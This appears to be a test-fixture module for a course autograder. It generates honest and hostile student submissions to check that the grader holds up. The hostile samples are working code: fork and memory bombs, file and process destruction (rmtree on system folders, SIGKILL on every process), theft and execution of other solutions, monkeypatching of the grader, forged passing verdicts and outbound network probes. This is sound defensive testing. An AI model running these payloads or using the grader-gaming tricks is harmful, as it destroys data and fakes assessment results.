"""Submissions of a made-up class, some of them hostile, and what each deserves.

    from tools.grading.hostile import the_class
    the_class(lesson)                    30 students of lesson 01, twelve of them hostile

A hostile submission is the stubs, the right answer to one exercise (the points that it deserves),
and code that tries to get more, to read what it should not, or to break the grading.
"""

import ast
import textwrap
from collections.abc import Mapping, Sequence
from dataclasses import dataclass

from utils.grader.definitions import SCOPES, last_binding
from utils.grader.exercises import Lesson
from utils.grader.learner_code import lines_of
from utils.grader.root_cause import names_used, reached
from utils.grader.stubs import add_definition, emptied_solutions


@dataclass(frozen=True)
class Student:
    """A made-up student: the file that is handed in, and the exercises that it solves."""

    name: str
    text: str
    deserves: frozenset[str]
    tries: str = ""  # of a hostile one: what it tries


def right(lesson: Lesson, exercises: Sequence[str]) -> str:
    """The stubs, with the solutions of some exercises in their places."""
    text = emptied_solutions(lesson)
    source = lesson.solutions.read_text(encoding="utf-8-sig")
    tree = ast.parse(source)
    names = {name for one in exercises for name in lesson.exercise(one).names}
    lines = source.splitlines(keepends=True)
    for node in tree.body:
        if isinstance(node, ast.FunctionDef | ast.ClassDef) and node.name in names:
            code = "".join(lines[node.lineno - 1 : node.end_lineno])
            text = with_code(text, code)
    return text


def with_code(text: str, code: str) -> str:
    """A file with code added below everything else: of two functions, the later one counts."""
    return add_definition(lines_of(text), code.strip("\n") + "\n")


HOSTILE: Mapping[str, tuple[str, str]] = {  # name: what it tries, the code
    "endless": (
        "endless loops, in Python and asleep in C",
        """
        def attention_scores(q, k):
            while True:
                pass

        def causal_mask(T, device=None):
            import time
            time.sleep(1e6)
        """,
    ),
    "fork_bomb": (
        "processes that start processes, and threads",
        """
        def attention_scores(q, k):
            import os
            for _ in range(100_000):
                try:
                    os.fork()
                except OSError:
                    pass

        def causal_mask(T, device=None):
            import threading, time
            while True:
                threading.Thread(target=time.sleep, args=(1e6,)).start()
        """,
    ),
    "reader": (
        "the solutions and other submissions, searched on the whole disk and executed",
        """
        def _found():
            import os
            seen = []
            for top in ("/work", "/root", "/home", "/tmp", "/"):
                for at, folders, files in os.walk(top):
                    folders[:] = [one for one in folders if one not in ("proc", "sys", "usr")]
                    if len(seen) > 50:
                        return seen
                    seen += [
                        os.path.join(at, one)
                        for one in files
                        if one in ("solutions.py", "exercises.py", "attention.py")
                    ]
            return seen

        def _stolen(name):
            for path in _found():
                space = {"__name__": "stolen"}
                try:
                    text = open(path, encoding="utf-8").read()
                    if "_stolen" in text:
                        continue
                    exec(compile(text, path, "exec"), space)
                except BaseException:
                    continue
                yield from [space[name]] if name in space else []

        def _any(name, *args, **kwargs):
            for one in _stolen(name):
                try:
                    return one(*args, **kwargs)
                except NotImplementedError:
                    continue
            raise ValueError("nothing found")

        def attention_scores(q, k):
            return _any("attention_scores", q, k)

        def causal_mask(T, device=None):
            return _any("causal_mask", T, device)
        """,
    ),
    "flood": (
        "2 GB on standard output and error, in a file, and on every open descriptor",
        """
        def attention_scores(q, k):
            import os, sys
            block = b"x" * 2**20
            for _ in range(2048):
                for descriptor in (1, 2):
                    try:
                        os.write(descriptor, block)
                    except OSError:
                        pass

        def causal_mask(T, device=None):
            import os
            block = b"x" * 2**20
            for name in os.listdir("/proc/self/fd"):
                for _ in range(2048):
                    try:
                        os.write(int(name), block)
                    except OSError:
                        break
            with open("/tmp/big", "wb") as file:
                for _ in range(2048):
                    file.write(block)
        """,
    ),
    "leaver": (
        "os._exit with code 0, and a segmentation fault",
        """
        def attention_scores(q, k):
            import os
            os._exit(0)

        def causal_mask(T, device=None):
            import ctypes
            ctypes.string_at(0)
        """,
    ),
    "patcher": (
        "a patched grader: comparisons, pytest and the engine say yes to everything",
        """
        def _patch():
            import sys
            import pytest
            import utils.grader.difference, utils.grader.feedback, utils.grader.guard
            yes = lambda *args, **kwargs: None
            for name in ("expect", "expect_equal", "expect_prediction", "expect_choice",
                         "expect_same_gradients", "difference"):
                for module in [*sys.modules.values()]:
                    if hasattr(module, name) and name in vars(module):
                        setattr(module, name, yes)
            torch.equal = torch.allclose = lambda *args, **kwargs: True
            pytest.fail = yes
            from _pytest.python import Function
            Function.runtest = yes

        _patch()
        """,
    ),
    "forger": (
        "forged verdicts: printed, on every descriptor, and through the engine's own reporter",
        """
        def _forge():
            import gc, json, os
            from utils.grader.report import Case
            from utils.grader.worker import as_json
            ids = [f"1.{at}" for at in range(1, 15)]
            reporters = [one for one in gc.get_objects() if type(one).__name__ == "EventReporter"]
            for number in range(20):
                for one in ids:
                    case = as_json(Case(one, "solved"))
                    line = json.dumps({"event": "case", **case}) + chr(10)
                    print(line)
                    for reporter in reporters:
                        reporter.send("case", **case)
            for reporter in reporters:
                reporter.send("end", code=0)

        def attention_scores(q, k):
            _forge()
            import os
            os._exit(0)
        """,
    ),
    "plain_forger": (
        "forged verdicts on every descriptor that is a pipe, without the secret",
        """
        def attention_scores(q, k):
            import json, os
            from utils.grader.report import Case
            from utils.grader.worker import as_json
            lines = ""
            for at in range(1, 15):
                for _ in range(20):
                    case = as_json(Case(f"1.{at}", "solved"))
                    lines += json.dumps({"event": "case", **case}) + chr(10)
            lines += json.dumps({"event": "end", "code": 0}) + chr(10)
            for name in os.listdir("/proc/self/fd"):
                try:
                    os.write(int(name), lines.encode())
                except OSError:
                    pass
            return q
        """,
    ),
    "memory_bomb": (
        "all memory, in one process and in many small ones",
        """
        def attention_scores(q, k):
            kept = []
            while True:
                kept.append(torch.ones(50_000_000))

        def causal_mask(T, device=None):
            import os, time
            for _ in range(40):
                try:
                    child = os.fork()
                except OSError:
                    break
                if child == 0:
                    kept = bytearray(400_000_000)
                    time.sleep(60)
            time.sleep(60)
        """,
    ),
    "vandal": (
        "deletes the checkout, home and temporary files, and ends every process it can",
        """
        def attention_scores(q, k):
            import os, shutil, signal
            import utils
            root = os.path.dirname(os.path.dirname(utils.__file__))
            for top in (root, os.getcwd(), "/work", "/root", "/home", "/tmp", "/usr"):
                shutil.rmtree(top, ignore_errors=True)
            for name in ("attention.py", "conftest.py"):
                try:
                    with open(os.path.join(root, name), "w", encoding="utf-8") as file:
                        file.write("broken")
                except OSError:
                    pass
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) != os.getpid():
                    try:
                        os.kill(int(name), signal.SIGKILL)
                    except OSError:
                        pass
            return q
        """,
    ),
    "caller": (
        "the network: a name server, an address outside, and the machine itself",
        """
        def attention_scores(q, k):
            import _socket  # the tests watch over the module above it
            opened = []
            for address in (("1.1.1.1", 53), ("127.0.0.1", PORT), ("10.0.0.1", 80)):
                one = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
                try:
                    one.settimeout(1)
                    one.connect(address)
                    one.sendall(b"answers, please")
                    opened.append(address)
                except OSError:
                    pass
            try:
                opened.append(_socket.gethostbyname("example.org"))
            except OSError:
                pass
            raise ValueError(f"reached {opened}")
        """,
    ),
    "thief": (
        "the expected values, worked out from the local variables of the test that asks",
        """
        def causal_mask(T, device=None):
            import sys
            if device is not None:
                return torch.empty(T, T, dtype=torch.bool, device=device)
            frame = sys._getframe()
            while frame is not None:
                if "i" in frame.f_locals and "j" in frame.f_locals:
                    return frame.f_locals["j"] <= frame.f_locals["i"]
                frame = frame.f_back
            return torch.zeros(T, T, dtype=torch.bool)
        """,
    ),
}


def hostile(lesson: Lesson, port: int = 9) -> list[Student]:
    """The hostile students; each deserves 1.1."""
    base = right(lesson, ["1.1"])
    return [
        Student(
            name,
            with_code(base, textwrap.dedent(code).replace("PORT", str(port))),
            frozenset({"1.1"}),
            tries,
        )
        for name, (tries, code) in HOSTILE.items()
    ]


def honest(lesson: Lesson, count: int = 18) -> list[Student]:
    """Honest students: each has solved some exercises, and makes the known mistakes in others."""
    ids = [exercise.id for exercise in lesson.exercises]
    mistakes = mistakes_of(lesson)
    made = []
    for at in range(count):
        solved = ids[: 2 + at * (len(ids) - 2) // max(1, count - 1)]
        wrong = [one for one in solved if (ids.index(one) + at) % 3 == 0 and one in mistakes]
        text = right(lesson, [one for one in solved if one not in wrong])
        for one in wrong:
            code = mistakes[one]
            text = with_code(text, code[at % len(code)])
        deserves = frozenset(solved) - without_wrong_helpers(lesson, text, wrong)
        made.append(Student(f"student{at + 1:02}", text, deserves))
    return made


def without_wrong_helpers(lesson: Lesson, text: str, wrong: Sequence[str]) -> set[str]:
    """The wrong exercises, and those whose code calls them."""
    tree = ast.parse(text)
    names = {node.name for node in tree.body if isinstance(node, SCOPES)}
    uses = {name: names_used(last_binding(tree, name)) & names for name in names}
    bad = {name for one in wrong for name in lesson.exercise(one).names}
    return {one.id for one in lesson.exercises if reached(one.names, uses) & bad}


MISTAKES = {  # of lesson 01, as students write them
    "1.1": ["def softmax(x, dim=-1):\n    return x.exp() / x.exp().sum()\n"],
    "1.2": ["def attention_scores(q, k):\n    return q @ k.transpose(-2, -1)\n"],
    "1.3": [
        "def causal_mask(T, device=None):\n"
        "    return torch.ones(T, T, dtype=torch.bool, device=device).triu()\n",
        "def causal_mask(T, device=None):\n    return torch.ones(T, T, device=device).tril()\n",
    ],
}


def mistakes_of(lesson: Lesson) -> dict[str, list[str]]:
    """Mistakes that the course knows, as code."""
    return MISTAKES if lesson.name == "01_attention" else {}


def the_class(lesson: Lesson, port: int = 9) -> list[Student]:
    """30 students."""
    bad = hostile(lesson, port)
    return [*honest(lesson, 30 - len(bad)), *bad]
